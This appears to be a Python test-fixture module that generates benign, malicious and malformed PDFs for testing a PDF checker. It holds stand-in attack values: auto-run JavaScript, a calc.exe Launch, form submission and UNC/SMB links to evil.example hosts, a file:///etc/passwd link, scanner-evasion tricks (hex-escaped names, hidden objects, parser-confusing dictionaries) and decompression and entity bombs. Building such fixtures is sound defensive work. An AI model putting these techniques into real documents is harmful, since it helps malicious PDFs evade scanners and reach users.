"""PDFs for tests, byte by byte: such as people send, and such as nobody should."""

import zlib
from collections.abc import Iterator, Mapping

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
Bodies = dict[int, bytes]
File = tuple[bytes, str]


def stream(content: bytes, extra: bytes = b"", *, flate: bool = False) -> bytes:
    """Return a stream object."""
    if flate:
        content, extra = zlib.compress(content, 9), extra + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), extra, content)


def build(
    bodies: Mapping[int, bytes], *, header: bytes = HEADER, trailer: bytes = b""
) -> bytes:
    """Return a PDF of these objects, with a table that is right."""
    raw, places = header, {}
    for number, body in bodies.items():
        places[number] = len(raw)
        raw += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(raw)
    last = max(bodies)
    raw += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        at = places.get(number)
        raw += b"0000000000 65535 f \n" if at is None else b"%010d 00000 n \n" % at
    return raw + (
        b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
        % (last + 1, trailer, table)
    )


def shown(text: bytes) -> bytes:
    """Return what puts a text onto a page."""
    return b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text


def pages(
    *contents: bytes,
    flate: bool = False,
    catalog: bytes = b"",
    page: bytes = b"",
    font: bytes = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica"
    b"/Encoding/WinAnsiEncoding>>",
) -> Bodies:
    """Return the objects of a PDF with so many pages."""
    numbers = range(4, 4 + 2 * len(contents), 2)
    kids = b" ".join(b"%d 0 R" % number for number in numbers)
    bodies: Bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, len(contents)),
        3: font,
    }
    for number, content in zip(numbers, contents, strict=True):
        bodies[number] = (
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents %d 0 R"
            b"/Resources<</Font<</F1 3 0 R>>>>%s>>" % (number + 1, page)
        )
        bodies[number + 1] = stream(content, flate=flate)
    return bodies


def good(text: bytes = b"Welder in Leeds", **changes: bytes) -> bytes:
    return build(pages(shown(text), **changes))  # type: ignore[arg-type]  # only bytes are asked for


def in_object_stream(bodies: Mapping[int, bytes]) -> bytes:
    """Return a PDF whose objects, but for streams, lie packed in a stream."""
    packed = {n: b for n, b in bodies.items() if b"stream\n" not in b}
    loose = {n: b for n, b in bodies.items() if n not in packed}
    holder, table = max(bodies) + 1, max(bodies) + 2
    index, content = b"", b""
    for number, body in packed.items():
        index += b"%d %d " % (number, len(content))
        content += body + b"\n"
    loose[holder] = stream(
        index + content,
        b"/Type/ObjStm/N %d/First %d" % (len(packed), len(index)),
        flate=True,
    )
    raw, rows = HEADER, {0: (0, 0, 65535)}
    for number, body in loose.items():
        rows[number] = (1, len(raw), 0)
        raw += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    for place, number in enumerate(packed):
        rows[number] = (2, holder, place)
    rows[table] = (1, len(raw), 0)
    entries = b"".join(
        bytes([kind]) + at.to_bytes(4) + more.to_bytes(2)
        for kind, at, more in (rows.get(n, (0, 0, 0)) for n in range(table + 1))
    )
    told = b"/Type/XRef/Size %d/Root 1 0 R/W[1 4 2]" % (table + 1)
    start = len(raw)
    raw += b"%d 0 obj\n%s\nendobj\n" % (table, stream(entries, told, flate=True))
    return raw + b"startxref\n%d\n%%%%EOF\n" % start


ACTIONS = {
    "script": b"<</S/JavaScript/JS(app.alert(1))>>",
    "launch": b"<</S/Launch/F(calc.exe)>>",
    "embedded go-to": b"<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>",
    "remote go-to": b"<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>",
    "submit": b"<</S/SubmitForm/F(http://evil.example)>>",
    "import": b"<</S/ImportData/F(x.fdf)>>",
    "rendition": b"<</S/Rendition/OP 0>>",
    "movie": b"<</S/Movie/T(x)>>",
    "sound": b"<</S/Sound/Sound 9 0 R>>",
}
OFTEN = {"script", "launch", "remote go-to"}
HOLDERS = {
    "embedded files": b"/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>>>",
    "scripts": b"/Names<</JavaScript<</Names[(a) 3 0 R]>>>>",
    "XFA": b"/AcroForm<</XFA[(x) 3 0 R]/Fields[]>>",
    "portfolio": b"/Collection<</View/T>>",
    "file": b"/AF[<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>]",
}
ANNOTATIONS = {
    "attachment": b"<</Subtype/FileAttachment/Rect[0 0 9 9]>>",
    "rich media": b"<</Subtype/RichMedia/Rect[0 0 9 9]>>",
    "3D": b"<</Subtype/3D/Rect[0 0 9 9]>>",
    "screen": b"<</Subtype/Screen/Rect[0 0 9 9]>>",
    "movie": b"<</Subtype/Movie/Rect[0 0 9 9]>>",
    "sound": b"<</Subtype/Sound/Rect[0 0 9 9]>>",
}
LINKS = (
    b"javascript:alert(1)", b"java\\nscript:alert(1)", b"file:///etc/passwd",
    b"\\\\\\\\evil\\\\share", b"data:text/html,x", b"vbscript:x", b"ms-word:ofe|u|x",
    b"search-ms:query=x", b"//evil.example/x", b"smb://evil.example/x",
)  # fmt: skip


def spelt_out(body: bytes) -> bytes:
    """Return an object whose names are written in numbers, as PDF allows."""
    for name in (b"JavaScript", b"Launch", b"JS", b"EmbeddedFiles", b"XFA", b"EF",
                 b"Collection", b"GoToE", b"GoToR", b"SubmitForm", b"ImportData",
                 b"Rendition", b"Movie", b"Sound", b"FileAttachment", b"RichMedia",
                 b"3D", b"Screen"):  # fmt: skip
        body = body.replace(b"/" + name, b"/#%02x%s" % (name[0], name[1:]))
    return body


def active() -> Iterator[tuple[str, bytes]]:
    """Yield PDFs that do something, by every way to it."""
    text = shown(b"x")
    for name, action in ACTIONS.items():
        opened = pages(text, catalog=b"/OpenAction" + action)
        yield f"{name} on opening", build(opened)
        if name in OFTEN:
            yield from hidden(name, action)
            yield f"{name} packed", in_object_stream(opened)
    for name, catalog in HOLDERS.items():
        yield f"{name}", build(pages(text, catalog=catalog))
        yield f"{name} packed", in_object_stream(pages(text, catalog=catalog))
        yield f"{name} spelt out", build(pages(text, catalog=spelt_out(catalog)))
    for name, annotation in ANNOTATIONS.items():
        page = b"/Annots[%s]" % annotation
        yield f"annotated {name}", build(pages(text, page=page))
        yield f"annotated {name}, packed", in_object_stream(pages(text, page=page))
    for link in LINKS:
        page = b"/Annots[<</Subtype/Link/A<</S/URI/URI(%s)>>>>]" % link
        yield f"link {link!r}", build(pages(text, page=page))


def hidden(name: str, action: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield PDFs that do one thing, each by another way to it."""
    text = shown(b"x")
    pointed = pages(text, catalog=b"/OpenAction 9 0 R") | {9: action}
    yield f"{name} by reference", build(pointed)
    yield f"{name} on a page", build(pages(text, page=b"/AA<</O%s>>" % action))
    link = b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A%s>>]" % action
    yield f"{name} on a click", build(pages(text, page=link))
    after = b"/OpenAction<</S/Named/N/NextPage/Next[%s]>>" % action
    yield f"{name} next", build(pages(text, catalog=after))
    spelt = b"/OpenAction" + spelt_out(action)
    yield f"{name} spelt out", build(pages(text, catalog=spelt))
    loose = b"77 0 obj\n%s\nendobj\nxref\n0" % action
    yield f"{name} in no table", moved(good().replace(b"xref\n0", loose, 1))
    cut = loose.replace(b"77 0 obj", b"77 % 1\n0%\robj")
    yield f"{name} behind comments", moved(good().replace(b"xref\n0", cut, 1))


def sloppy() -> Iterator[tuple[str, bytes]]:
    """Yield PDFs with dictionaries that one reader gives up, and another reads."""
    script = b"/OpenAction<</S/JavaScript/JS(x)>>"
    text = shown(b"x")
    for name, catalog in {
        "a broken number": script + b"/X <zz>",
        "a key without a value": script + b"/X",
        "a name twice": b"/OpenAction[4 0 R/Fit]" + script,
        "an odd token": b"/X }{ " + script,
        "a text with brackets": b"/X(a(b)\\)c)" + script,
        "a comment": b"% (\n" + script,
        "something open": b"/X[ " + script,
    }.items():
        yield f"script behind {name}", build(pages(text, catalog=catalog))
        packed = in_object_stream(pages(text, catalog=catalog))
        yield f"script behind {name}, packed", packed


def moved(raw: bytes) -> bytes:
    """Return a PDF whose startxref says again where its table is."""
    table = raw.rindex(b"xref\n0 ", 0, raw.rindex(b"startxref"))
    head, _, _ = raw.rpartition(b"startxref")
    return head + b"startxref\n%d\n%%%%EOF\n" % table


def growing() -> Iterator[tuple[str, bytes]]:
    """Yield PDFs that are small here and large where they are opened."""
    zeros = bytes(60 * 1024 * 1024)
    once = zlib.compress(zeros, 9)
    twice = zlib.compress(once, 9)
    usual = pages(shown(b"x"))
    yield "bomb", build({**usual, 5: stream(zeros, flate=True)})
    both = b"/Filter[/FlateDecode/FlateDecode]"
    yield "bomb in a bomb", build({**usual, 5: stream(twice, both)})
    for names in (b"/LZWDecode/FlateDecode", b"/RL/Fl", b"/Fl/Fl/Fl/Fl"):
        chain = stream(twice, b"/Filter[%s]" % names)
        yield f"chain {names!r}", build({**usual, 5: chain})
    packed = stream(zeros, b"/Type/ObjStm/N 1/First 9", flate=True)
    yield "bomb of objects", build({**usual, 9: packed})
    entity = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    for flate in (True, False):
        meta = stream(entity, b"/Type/Metadata/Subtype/XML", flate=flate)
        yield f"XMP with entities, flate={flate}", build({**usual, 9: meta})
    for side in (b"[0 0 200000 200000]", b"[0 0 9999999 9]", b"[-99999 0 1 1]"):
        big = usual[4].replace(b"[0 0 612 792]", side)
        yield f"page {side!r}", build({**usual, 4: big})
    for width, height in ((50_000, 50_000), (2**31, 2**31), (1, 2**40)):
        told = b"/Subtype/Image/Width %d/Height %d" % (width, height)
        yield f"picture {width} x {height}", build({**usual, 9: stream(b"x", told)})
    yield "201 pages", build(pages(*[shown(b"x")] * 201))
    same = dict(usual)
    same[2] = b"<</Type/Pages/Kids[%s]/Count 1>>" % (b"4 0 R " * 5000)
    yield "one page 5,000 times", build(same)
    many = b"".join(b"%d 0 obj 1 endobj\n" % n for n in range(10, 110_000))
    yield "many objects", moved(good().replace(b"xref\n0", many + b"xref\n0", 1))
    yield "deep arrays", build({**usual, 9: b"[" * 20_000 + b"]" * 20_000})
    yield "deep dictionaries", build({**usual, 9: b"<</A" * 5_000 + b">>" * 5_000})


def broken() -> Iterator[tuple[str, bytes]]:
    """Yield PDFs that break off, or contradict themselves."""
    whole = build(pages(shown(b"x" * 900), shown(b"y" * 900)))
    for part in range(1, 20, 2):
        yield f"cut at {part}/20", whole[: len(whole) * part // 20]
    for lost in (1, 3, 7, 12):
        yield f"{lost} bytes lost at the end", whole[:-lost].rstrip()[: -lost or None]
    for bad in (b"0", b"7", b"99999999", b"9999999999", b"-5", b""):
        head, _, tail = whole.rpartition(b"startxref\n")
        rest = tail.partition(b"\n")[2]
        yield f"table at {bad!r}", head + b"startxref\n" + bad + b"\n" + rest
    yield "nothing but a head", HEADER
    yield "head and end", HEADER + b"startxref\n0\n%%EOF\n"
    yield "no version", whole.replace(b"%PDF-1.7", b"%PDF-x.y")
    yield "no root", whole.replace(b"/Root 1 0 R", b"")
    yield "root elsewhere", whole.replace(b"/Root 1 0 R", b"/Root 6 9 R")
    none = pages(shown(b"x"))
    none[2] = b"<</Type/Pages/Kids[]/Count 0>>"
    yield "no pages", build(none)
    loop = dict(none) | {2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}
    yield "pages in a circle", build(loop)
    yield "pages that are not there", build({1: b"<</Type/Catalog/Pages 8 0 R>>"})
    away = pages(shown(b"x")) | {9: stream(b"x", b"/F(elsewhere)")}
    yield "stream elsewhere", build(away)
    for version in (1, 2, 4, 5):
        locked = b"/Encrypt<</Filter/Standard/V %d/R %d/O(%s)/U(%s)/P -4>>" % (
            version, version + 1, b"o" * 32, b"u" * 32,
        )  # fmt: skip
        yield (
            f"encrypted {version}",
            build(pages(shown(b"x")), trailer=locked + b"/ID[(a)(a)]"),
        )


def two_in_one(other: Mapping[str, bytes]) -> Iterator[tuple[str, bytes]]:
    """Yield PDFs that are something else as well."""
    whole = good()
    for name, content in other.items():
        yield f"{name} before", content + whole
        yield f"{name} after", whole + content
        yield f"{name} as a comment", build(
            pages(shown(b"x")), header=HEADER + b"%" + content.replace(b"\n", b" ")
            + b"\n",
        )  # fmt: skip
